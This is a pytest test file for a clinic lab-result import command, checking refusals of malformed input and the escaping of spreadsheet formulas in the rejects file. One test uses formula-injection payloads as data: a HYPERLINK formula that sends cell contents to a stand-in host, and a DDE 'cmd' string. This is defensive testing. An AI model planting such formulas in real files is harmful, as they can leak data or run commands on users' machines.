"""Issue 18 item 5: what `result import` refuses in one line (exit 2), the database byte for byte as before:
a repeated column, --rejects that is the input file, a file over the size cap or endless, text that is not
UTF-8, a rejects file that cannot be written. And the rejects file escapes spreadsheet formulas."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from freezegun import freeze_time

from tests.conftest import dump_database

HEADER = "mrn,test,value,unit,taken_on,ref_low,ref_high\n"
GOOD = "M1,alt,30,U/L,2026-02-20,,\n"
BAD = "M1,alt,abc,U/L,2026-02-21,,\n"


def snapshot(db: str):
    """The database file's bytes (and its WAL's) on SQLite; every row on PostgreSQL."""
    if os.environ.get("TRACKER_TEST_PG"):
        return dump_database(db)
    return {suffix: Path(db + suffix).read_bytes() for suffix in ("", "-wal") if Path(db + suffix).exists()}


@pytest.fixture
def clinic(tracker):
    tracker("patient add M1 --name 'Max Test' --dob 1970-01-01")
    return tracker


def refused(tracker, db_url, args, *words):
    before = snapshot(db_url)
    result = tracker(args, ok=False)
    assert result.exit_code == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    for word in words:
        assert word in lines[0]
    assert snapshot(db_url) == before
    return lines[0]


@freeze_time("2026-03-02")
@pytest.mark.parametrize("header", ["mrn,test,value,value,unit,taken_on\n", "mrn,test,Value , value,unit,taken_on\n"])
def test_a_repeated_column_is_refused_naming_it(clinic, db_url, tmp_path, header):
    path = tmp_path / "labs.csv"
    path.write_text(header + "M1,alt,30,9999,U/L,2026-02-20\n")
    line = refused(clinic, db_url, ["result", "import", str(path)], "header: 'value'", "twice")
    assert "columns 3 and 4" in line


@freeze_time("2026-03-02")
@pytest.mark.parametrize("how", ["same", "relative", "symlink", "hardlink"])
def test_rejects_that_is_the_input_file_is_refused_and_the_file_kept(clinic, db_url, tmp_path, monkeypatch, how):
    path = tmp_path / "labs.csv"
    path.write_text(HEADER + GOOD + BAD)
    original = path.read_bytes()
    monkeypatch.chdir(tmp_path)
    if how == "same":
        rejects = str(path)
    elif how == "relative":
        rejects = "./sub/../labs.csv"
        (tmp_path / "sub").mkdir()
    elif how == "symlink":
        rejects = str(tmp_path / "link.csv")
        os.symlink(path, rejects)
    else:
        rejects = str(tmp_path / "hard.csv")
        os.link(path, rejects)
    refused(clinic, db_url, ["result", "import", "labs.csv", "--skip-bad", "--rejects", rejects],
            "rejects: ", "is the input file")
    assert path.read_bytes() == original


@freeze_time("2026-03-02")
def test_a_file_over_the_size_cap_is_refused_unread(clinic, db_url, tmp_path, monkeypatch):
    config = tmp_path / "site.toml"
    config.write_text("[import]\nmax_mb = 1\n")
    monkeypatch.setenv("TRACKER_CONFIG", str(config))
    path = tmp_path / "big.csv"
    path.write_text(HEADER + GOOD * (1024 * 1024 // len(GOOD) + 10))
    refused(clinic, db_url, ["result", "import", str(path)], "file: ", "larger than the import limit of 1 MB",
            "max_mb")
    path.write_text(HEADER + GOOD * 100)  # under the cap: imported (one row, the others repeat it)
    assert "repeats an earlier row" in clinic(["result", "import", str(path)], ok=False).stderr


@freeze_time("2026-03-02")
def test_an_endless_stream_is_refused_not_read_forever(clinic, db_url):
    refused(clinic, db_url, ["result", "import", "/dev/zero"], "file: '/dev/zero'", "larger than the import limit")


@freeze_time("2026-03-02")
def test_text_that_is_not_utf8_is_refused_naming_the_line(clinic, db_url, tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes((HEADER + GOOD).encode() + "M1,alt,31,U/L,2026-02-21,,Müller\n".encode("latin-1"))
    refused(clinic, db_url, ["result", "import", str(path)], "line 3 is not UTF-8", "0xfc")
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # after a byte order mark, the same line and byte
    refused(clinic, db_url, ["result", "import", str(path)], "line 3 is not UTF-8", "0xfc")


@freeze_time("2026-03-02")
def test_a_rejects_file_that_cannot_be_written_is_one_line_and_imports_nothing(clinic, db_url, tmp_path):
    path = tmp_path / "labs.csv"
    path.write_text(HEADER + GOOD + BAD)
    refused(clinic, db_url, ["result", "import", str(path), "--skip-bad", "--rejects",
                             str(tmp_path / "missing" / "rejects.csv")], "rejects: ", "cannot be written")


@freeze_time("2026-03-02")
def test_the_rejects_file_escapes_formulas_and_keeps_numbers(clinic, tmp_path):
    path = tmp_path / "labs.csv"
    with open(path, "w", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(HEADER.strip().split(","))
        out.writerow(["M1", "alt", "30", "U/L", "2026-02-20", "", ""])
        out.writerow(["M1", "alt", '=HYPERLINK("http://x.example/?"&A1,"click")', "", "2026-02-21", "", ""])
        out.writerow(["M1", "@SUM(A1:A2)", "5", "", "2026-02-21", "", ""])
        out.writerow(["M1", "alt", "-1.5", "", "2026-02-22", "-3", ""])
        out.writerow(["+cmd|' /C calc'!A0", "alt", "30", "", "2026-02-22", "", ""])
    result = clinic(["result", "import", str(path), "--skip-bad"])
    assert "imported 1 results" in result.stdout
    rows = list(csv.DictReader((tmp_path / "labs.rejects.csv").open()))
    assert [r["line"] for r in rows] == ["3", "4", "5", "6"]
    assert rows[0]["value"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
    assert rows[1]["test"] == "'@SUM(A1:A2)"
    assert rows[2]["value"] == "-1.5" and rows[2]["ref_low"] == "-3"  # plain numbers stay numbers
    assert rows[3]["mrn"] == "'+cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


def test_the_import_cap_is_a_clinic_default_shown_by_config_show_and_checked(tracker, tmp_path, monkeypatch):
    assert "max_mb = 50  # clinic default" in tracker("config show").stdout
    config = tmp_path / "site.toml"
    monkeypatch.setenv("TRACKER_CONFIG", str(config))
    for bad in ("0", "-1", "1.5", '"big"'):
        config.write_text(f"[import]\nmax_mb = {bad}\n")
        result = tracker("config show", ok=False)
        assert result.exit_code == 8 and "import.max_mb" in result.stderr
    config.write_text("[import]\nmax_mbs = 5\n")
    assert "did you mean 'max_mb'" in tracker("config show", ok=False).stderr


@freeze_time("2026-03-02")
def test_a_value_already_accepted_on_another_row_is_still_refused_for_its_own_day(clinic, tmp_path):
    """Rows are checked with the conversions of earlier identical values remembered (RowValidator); the
    day and the patient are still checked on every row, and a refusal names its own row."""
    clinic("patient add M2 --name 'Young Test' --dob 2026-02-25")
    path = tmp_path / "labs.csv"
    path.write_text(HEADER + "M1,hb,13.5,g/dL,2026-02-20,,\n"
                             "M1,hb,13.5,g/dL,2026-03-05,,\n"  # in the future
                             "M2,hb,13.5,g/dL,2026-02-20,,\n"  # before M2 was born
                             "M2,hb,13.5,g/dL,2026-02-27,,\n")
    before = snapshot(clinic.db)
    result = clinic(["result", "import", str(path)], ok=False)
    assert result.exit_code == 2
    assert result.stderr.splitlines()[1:] == [
        "line 3: on: '2026-03-05': is in the future",
        "line 4: on: '2026-02-20': is before the patient's date of birth 2026-02-25",
    ]
    assert snapshot(clinic.db) == before
    assert "imported 2 results" in clinic(["result", "import", str(path), "--skip-bad"]).stdout
    assert [(r["value"], r["reported_unit"]) for r in clinic.json(["result", "list", "M2"])] == [(135, "g/dL")]
